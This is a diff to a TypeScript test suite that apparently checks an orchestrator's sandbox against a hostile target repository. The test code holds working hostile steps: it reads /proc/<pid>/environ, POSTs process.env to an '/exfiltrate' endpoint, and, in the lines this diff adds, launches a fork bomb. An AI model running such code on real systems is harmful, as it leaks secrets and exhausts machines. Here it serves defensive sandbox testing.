@@ -17,7 +17,8 @@ import { OrchestratorApi, type TaskView } from './orchestrator-api';
  * record behaviour) try, from their top-level code, everything an attacker
  * would — read the service's environment and every /proc/<pid>/environ,
  * write markers outside the checkout, SET a key in Redis, reach Kafka, the
- * REST gateway and an HTTP port of the test, and leave a daemon behind.
+ * REST gateway and an HTTP port of the test, leave a daemon behind, and
+ * (the module) fork until the system says no.
  * The planner still finishes its analysis with the repository's own
  * configuration, the generator still runs, and none of it got out: no
  * marker, no Redis key, no request to the port, no daemon left, no secret
@@ -71,8 +72,21 @@ describe('a hostile target repository', () => {
       for (const [host, port] of ${JSON.stringify(targets.http)}) {
         report.http[host + ':' + port] = await fetch('http://' + host + ':' + port + '/exfiltrate', { method: 'POST', body: JSON.stringify(process.env), signal: AbortSignal.timeout(2000) }).then((r) => r.status, (e) => String(e.cause?.code ?? e.name));
       }
+      if (${JSON.stringify(origin === 'module')}) report.fork = await forkBomb();
       console.log(JSON.stringify(report));
     })();
+    // Children until the system says no (or 5000): the sandbox's process limit must say it first.
+    function forkBomb() {
+      return new Promise((done) => {
+        let started = 0;
+        const next = () => {
+          const child = spawn('sleep', ['120'], { stdio: 'ignore' });
+          child.on('spawn', () => { started += 1; if (started < 5000) next(); else done({ started, code: 'none' }); });
+          child.on('error', (e) => done({ started, code: e.code }));
+        };
+        next();
+      });
+    }
   `;
 
   /**
@@ -208,7 +222,14 @@ require('node:fs').writeFileSync(${JSON.stringify(reportFile)}, hostileRun.stdou
     const diff = (task.output as { patch: { diff: string } }).patch.diff;
     const reportLine = diff.split('\n').find((line) => line.startsWith('+{"origin":"module"'));
     expect(reportLine).toBeDefined();
-    const report = JSON.parse(reportLine!.slice(1)) as { env: string[]; environs: string[]; writes: Record<string, string>; tcp: Record<string, string>; http: Record<string, string> };
+    const report = JSON.parse(reportLine!.slice(1)) as {
+      env: string[];
+      environs: string[];
+      writes: Record<string, string>;
+      tcp: Record<string, string>;
+      http: Record<string, string>;
+      fork: { started: number; code: string };
+    };
     expect(report.env).not.toEqual(expect.arrayContaining(['REDIS_URL']));
     expect(report.env.filter((name) => /SECRET|REDIS|KAFKA|INFLUX|MESH/.test(name))).toEqual([]);
     expect(report.environs).toEqual([]);
@@ -217,6 +238,9 @@ require('node:fs').writeFileSync(${JSON.stringify(reportFile)}, hostileRun.stdou
     for (const outcome of Object.values(report.tcp)) expect(outcome).not.toBe('connected');
     expect(Object.keys(report.http)).toHaveLength(2);
     for (const outcome of Object.values(report.http)) expect(outcome).not.toMatch(/^\d+$/);
+    // The fork bomb hit the run's process limit (512 processes and threads, the runner's own included).
+    expect(report.fork.code).toBe('EAGAIN');
+    expect(report.fork.started).toBeLessThan(512);
   });
 });
 
